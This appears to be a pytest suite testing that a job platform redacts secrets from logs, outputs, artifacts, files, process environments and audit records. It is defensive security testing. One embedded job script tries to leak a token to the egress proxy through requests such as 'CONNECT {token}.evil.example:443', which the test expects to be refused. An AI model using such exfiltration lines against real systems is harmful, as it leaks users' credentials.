# SPDX-License-Identifier: Apache-2.0
"""A secret that a job has is found nowhere afterwards: not in the data directories of coordinator
and node, searched byte by byte, nor in a log, a result, an artifact, or a process's arguments or
environment while the job runs."""

from __future__ import annotations

import hashlib
import json
import os
import pty
import secrets
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from bcai import SDK, FailedPrecondition, InvalidArgument, Job, JobFailed, NotFound
from machine import (
    OneMachine,
    Program,
    clean_environment,
    find_program,
    free_port,
    run_command,
    wait_until,
    walkable,
)
from node_network import NodeNetwork, started

# It prints the value whole and in two pieces, writes it into a file and into a file's name, gives
# it as an output, as a tensor, as progress and as a metric's name, and ends with it.
CODE = """
import hashlib, os, sys, time
import bcai
import numpy
token = os.environ["TOKEN"]
print("sha256", hashlib.sha256(token.encode()).hexdigest())
print(token, repr(token))
print(token, file=sys.stderr)
for start, end in ((0, 7), (7, None)):
    sys.stdout.write(token[start:end])
    sys.stdout.flush()
    time.sleep(0.2)
print()
bcai.progress(0.5, "with " + token)
bcai.log_metric(token, 1.0)
bcai.output("given", {"nested": [token]})
bcai.output("array", numpy.frombuffer(token.encode(), dtype=numpy.uint8))
with open("outputs/token.txt", "w") as file:
    file.write("x" * 100_000 + token + "y" * 100_000)
with open("outputs/clean.txt", "w") as file:
    file.write("clean")
os.mkdir("outputs/" + token)
with open("outputs/" + token + "/file.txt", "w") as file:
    file.write("clean")
time.sleep(0.5)
raise RuntimeError("the token is " + token)
"""


class Sampler:
    """Looks for a value in the arguments and the environment of every process, until it ends."""

    def __init__(self, value: bytes) -> None:
        self.value = value
        self.looks = 0
        self.found: list[str] = []
        self._end = threading.Event()
        self._thread = threading.Thread(target=self._run)

    def __enter__(self) -> Sampler:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._end.set()
        self._thread.join()

    def _run(self) -> None:
        while not self._end.wait(0.01):
            for directory in Path("/proc").iterdir():
                if not directory.name.isdigit():
                    continue
                for name in ("cmdline", "environ"):
                    try:
                        data = (directory / name).read_bytes()
                    except OSError:
                        continue  # it has ended
                    self.looks += 1
                    if self.value in data:
                        self.found.append(f"{directory}/{name}")


def files_with(directory: Path, values: list[bytes]) -> list[Path]:
    found: list[Path] = []
    for path in directory.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            found += [path for value in values if value in data]
    return found


def run_and_look(client: SDK, value: str) -> Job:
    """Runs CODE with the value as TOKEN. All that comes back is without it."""
    job = client.create_job(CODE, secrets=["TOKEN"], import_policy="off")
    with Sampler(value.encode()) as sampler, pytest.raises(JobFailed) as failed:
        job.execute()
    assert sampler.looks > 100
    assert sampler.found == []
    result = failed.value.result
    assert result is not None
    logs = job.logs
    assert f"sha256 {hashlib.sha256(value.encode()).hexdigest()}\n" in logs
    assert '\n*** "***"\n' in logs
    assert "RuntimeError: the token is ***" in logs
    assert result.outputs["given"] == {"nested": ["***"]}
    assert [artifact.name for artifact in result.artifacts] == ["outputs/clean.txt"]
    left_out = result.outputs.left_out
    assert left_out["outputs/token.txt"] == "it holds the value of a secret"
    assert left_out["outputs.safetensors"] == "it holds the value of a secret"
    assert left_out["outputs/***/file.txt"] == "its name holds the value of a secret"
    assert failed.value.error is not None
    assert failed.value.error.message == "the token is ***"
    told = repr((logs, result, failed.value, job.events(), job.progress, client.jobs()))
    assert value not in told
    return job


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> Iterator[OneMachine]:
    directory = tmp_path_factory.mktemp("secrets")
    walkable(directory)
    machine = OneMachine(directory)
    yield machine
    machine.stop()


def test_a_secret_is_found_nowhere(own: OneMachine) -> None:
    value = "s3cret " + secrets.token_urlsafe(24) + " \u00e9'\\"
    with own.client(timeout=120) as client:
        client.set_secret("TOKEN", value)
        jobs = [run_and_look(client, value)]

        def starts_warm() -> bool:
            jobs.append(run_and_look(client, value))
            result = json.loads(own.command("results", jobs[-1].id, "--json").stdout)
            return bool(result["timings"]["start"] == "warm")

        wait_until(starts_warm, 120, "a job with a secret starts warm")
        crash = client.create_job("import os; os.abort()", secrets=["TOKEN"])
        with pytest.raises(JobFailed):
            crash.execute()
    shown = [own.command(*words, jobs[0].id) for words in (["show"], ["logs"], ["results"])]
    for command in shown:
        assert value not in command.stdout + command.stderr
    core = value.encode()
    encodings = [core, json.dumps(value)[1:-1].encode(), core.hex().encode()]
    wait_until(lambda: not list((own.data / "node" / "attempts").iterdir()), 30, "it is shipped")
    for directory in (own.data, own.directory):
        assert files_with(directory, encodings) == []
    # Nothing is hidden from the search: a value that was not secret is there.
    assert files_with(own.data, [b"the token is ***"])


IN_PIECES = """
import bcai, os
pem = os.environ["PEM"]
for line in pem.splitlines():
    print(line)
print(ascii(pem), repr(pem.encode()))
outputs = {"x": {pem: object()}}
bcai.progress(0.5, "x" * 250 + pem)
bcai.log_metric("loss", pem)
"""


def test_no_line_or_cut_piece_of_a_long_secret_is_found(own: OneMachine) -> None:
    middle = [secrets.token_urlsafe(48) for _ in range(12)]
    value = "\n".join(["-----BEGIN \u00e9-----", *middle, "-----END-----", ""])
    with own.client(timeout=120) as client:
        client.set_secret("PEM", value)
        job = client.create_job(IN_PIECES, secrets=["PEM"])
        with pytest.raises(JobFailed) as failed:
            job.execute()
        result = failed.value.result
        assert result is not None
        assert "TypeError: bcai.log_metric: the value is a number, not '***" in job.logs
        assert "holds at ['x']['***" in result.outputs.left_out["outputs"]
    wait_until(lambda: not list((own.data / "node" / "attempts").iterdir()), 30, "it is shipped")
    pieces = [line[:10].encode() for line in middle]
    for directory in (own.data, own.directory):
        assert files_with(directory, pieces) == []


ASK_THE_PROXY = """
import os, socket
token = os.environ["TOKEN"]
def ask(line):
    with socket.create_connection(("127.0.0.1", 3128), 10) as proxy:
        proxy.sendall((line + " HTTP/1.1\\r\\n\\r\\n").encode())
        return proxy.recv(4096)
told = [
    ask(f"GET http://{token}.example.com/"),
    ask(f"CONNECT {token}.evil.example:443"),
    ask(f"CONNECT {token.upper()}:443"),
    ask(f"CONNECT {token}"),
    ask(f"GET https://{token}/"),
    ask("CONNECT " + "x" * 85 + token),
]
assert all(one.startswith(b"HTTP/1.1 40") for one in told)
print("asked", len(told))
"""


@pytest.fixture(scope="module")
def networked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NodeNetwork]:
    config = 'network: ["192.0.2.1:80"]\nindex_url: none\n'
    yield from started(tmp_path_factory, "networked", config)


@pytest.mark.parametrize("level", ["standard", "high"])
def test_a_secret_asked_for_as_a_host_is_recorded_nowhere(
    networked: NodeNetwork, level: str
) -> None:
    if level == "high" and shutil.which("runsc") is None:
        pytest.skip("needs runsc: apt-get install runsc")
    value = "Tok3n-" + secrets.token_hex(20) + "-Zz"
    with networked.client() as client:
        client.set_secret("TOKEN", value)
        job = client.create_job(
            ASK_THE_PROXY,
            secrets=["TOKEN"],
            network={"allow": ["192.0.2.1:80"]},
            import_policy="off",
            security_level=level,
        )
        job.execute()
        assert job.logs == "asked 6\n"
    node = networked.directory / "node"
    wait_until(lambda: not list((node / "attempts").iterdir()), 30, "it is shipped")
    forms = [value, value.lower(), value.upper(), value[:8], value[:8].lower(), value[-12:].lower()]
    assert files_with(networked.directory, [form.encode() for form in forms]) == []
    [log] = (node / "audit").glob("*.jsonl")
    records = [json.loads(line) for line in log.read_text().splitlines()]
    [record] = [record for record in records if record.get("job") == job.id]
    connections = record["network"]["connections"]
    assert [one["target"] for one in connections][:3] == [
        "***.example.com:80",
        "***.evil.example:443",
        "***:443",
    ]
    assert all(one["verdict"] == "refused" and one["reason"] for one in connections)
    assert all(one["time"] and one["bytes_sent"] == 0 for one in connections)
    assert '"target":"***.evil.example:443"' in networked.log_of_node()


def test_the_commands_take_a_value_from_input_and_show_none(own: OneMachine) -> None:
    value = secrets.token_hex(16)
    done = own.command("secret", "set", "FROM_INPUT", input=value + "\n")
    assert done.returncode == 0, done.stderr
    assert value not in done.stdout + done.stderr
    file = own.directory / "value"
    file.write_text(value + "\n")
    assert own.command("secret", "set", "FROM_FILE", "--from-file", str(file)).returncode == 0
    file.unlink()
    listed = own.command("secret", "list")
    assert "FROM_INPUT" in listed.stdout and value not in listed.stdout
    told = json.loads(own.command("secret", "list", "--json").stdout)["secrets"]
    assert {one["name"]: one["bytes"] for one in told} | {"FROM_INPUT": 32, "FROM_FILE": 33} == {
        one["name"]: one["bytes"] for one in told
    }
    code = (
        "import hashlib, os\n"
        "for name in ('FROM_INPUT', 'FROM_FILE'):\n"
        "    print(hashlib.sha256(os.environ[name].encode()).hexdigest())"
    )
    ran = own.command(
        "run", "--quiet", "--code", code, "--secret", "FROM_INPUT", "--secret", "FROM_FILE"
    )
    expected = [hashlib.sha256(text.encode()).hexdigest() for text in (value, value + "\n")]
    assert ran.stdout.split() == expected, ran.stderr
    for name in ("FROM_INPUT", "FROM_FILE"):
        assert own.command("secret", "delete", name).returncode == 0
    assert own.command("secret", "delete", "FROM_FILE").returncode == 2
    refused = own.command("secret", "set", "lower", input="x")
    assert refused.returncode == 2 and "A-Z 0-9 _" in refused.stderr


def test_a_terminal_is_asked_without_echo(own: OneMachine) -> None:
    program = find_program()
    assert program is not None
    environment = clean_environment(
        own.directory, BCAI_ENDPOINT=own.endpoint, BCAI_API_KEY=own.key
    )

    def start() -> tuple[int, subprocess.Popen[bytes]]:
        master, slave = pty.openpty()
        process = subprocess.Popen(
            [program, "secret", "set", "TYPED"],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            env=environment,
            start_new_session=True,
        )
        os.close(slave)
        return master, process

    def read_until(terminal: int, text: bytes) -> bytes:
        shown = b""
        while text not in shown:
            shown += os.read(terminal, 4096)
        return shown

    terminal, process = start()
    shown = read_until(terminal, b"value of TYPED: ")
    os.write(terminal, b"what was typed\n")
    shown += read_until(terminal, b"TYPED is set")
    assert process.wait(30) == 0
    os.close(terminal)
    assert b"what was typed" not in shown
    with own.client() as client:
        assert [secret.bytes for secret in client.secrets() if secret.name == "TYPED"] == [14]
    terminal, process = start()
    read_until(terminal, b"value of TYPED: ")
    process.send_signal(signal.SIGINT)
    assert process.wait(30) == 130
    os.close(terminal)


def test_what_a_job_cannot_have_is_refused(own: OneMachine) -> None:
    made = own.command("keys", "create", "--name", "other", "--role", "member")
    with own.client() as client, SDK(own.endpoint, made.stdout.strip()) as other:
        client.set_secret("MINE", "of the first key")
        other.set_secret("THEIRS", "of the other key")
        with pytest.raises(InvalidArgument, match="no secret MINE; it has THEIRS"):
            other.create_job("print(1)", secrets=["MINE"]).execute(wait=False)
        with pytest.raises(InvalidArgument, match="no secret THEIRS"):
            client.create_job("print(1)", secrets=["THEIRS"]).execute(wait=False)
        with pytest.raises(InvalidArgument, match="secret's name"):
            client.create_job("print(1)", secrets=["not a name"]).execute(wait=False)
        with pytest.raises(NotFound):
            other.delete_secret("MINE")
        assert [secret.name for secret in other.secrets()] == ["THEIRS"]


def test_a_job_whose_secret_was_deleted_ends_and_says_so(own: OneMachine) -> None:
    with own.client() as client:
        client.set_secret("BRIEF", "here for a while")
        # Every slot is taken until the secret is gone.
        machine_is_full = client.create_job(
            "import time; time.sleep(3)", hardware={"cpu_cores": os.cpu_count() or 1}
        )
        machine_is_full.execute(wait=False)
        waiting = client.create_job(
            "print('ran')", secrets=["BRIEF"], hardware={"cpu_cores": os.cpu_count() or 1}
        )
        waiting.execute(wait=False)
        client.delete_secret("BRIEF")
        with pytest.raises(JobFailed, match="BRIEF was deleted"):
            waiting.result(timeout=60)


def test_a_local_run_has_the_secrets_of_this_machine(tmp_path: Path) -> None:
    walkable(tmp_path)
    data = ["--data-dir", str(tmp_path / "data")]
    value = secrets.token_hex(16)
    done = run_command(tmp_path, ["secret", "set", "TOKEN", *data], input=value)
    assert done.returncode == 0, done.stderr
    code = "import hashlib, os; print(hashlib.sha256(os.environ['TOKEN'].encode()).hexdigest())"
    run = ["run", "--quiet", "--code", code, *data, "--secret"]
    ran = run_command(tmp_path, [*run, "TOKEN"])
    assert ran.stdout.strip() == hashlib.sha256(value.encode()).hexdigest(), ran.stderr
    refused = run_command(tmp_path, [*run, "TOKN"])
    assert refused.returncode == 2
    assert "no secret TOKN; it has TOKEN" in refused.stderr
    assert files_with(tmp_path, [value.encode()]) == []


def own_address() -> str:
    """Another address of this machine than the loopback's, or ``""``."""
    listed = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False)
    return next((word for word in listed.stdout.split() if "." in word), "")


def test_a_secret_does_not_go_where_others_could_read_it(tmp_path: Path) -> None:
    address = own_address()
    if not address:
        pytest.skip("needs an address besides the loopback's")
    data = ["--data-dir", str(tmp_path / "coordinator")]
    create = ["coordinator", "create-key", "--name", "test", "--role", "owner", *data]
    key = run_command(tmp_path, create).stdout.strip()
    port = free_port()
    program = Program(tmp_path, "c", "coordinator", *data, "--listen", f"0.0.0.0:{port}")
    try:

        def listens() -> bool:
            with socket.socket() as probe:
                return probe.connect_ex((address, port)) == 0

        wait_until(listens, 60, "the coordinator is there")
        endpoint = f"http://{address}:{port}"
        with SDK(endpoint, key) as client, pytest.raises(FailedPrecondition, match="not encrypted"):
            client.set_secret("TOKEN", "value")
        done = run_command(
            tmp_path,
            ["secret", "set", "TOKEN"],
            input="value",
            BCAI_ENDPOINT=endpoint,
            BCAI_API_KEY=key,
        )
        assert done.returncode == 2 and "not encrypted" in done.stderr
        curl = ["curl", "-s", "-X", "PUT", "-H", f"Authorization: Bearer {key}", "-d", "value"]
        told = subprocess.run(
            [*curl, f"{endpoint}/v1/secrets/TOKEN"], capture_output=True, text=True, check=True
        )
        assert json.loads(told.stdout)["code"] == "permission_denied"
        with SDK(f"http://127.0.0.1:{port}", key) as client:
            client.set_secret("TOKEN", "value")
            assert [secret.bytes for secret in client.secrets()] == [5]
    finally:
        program.stop()
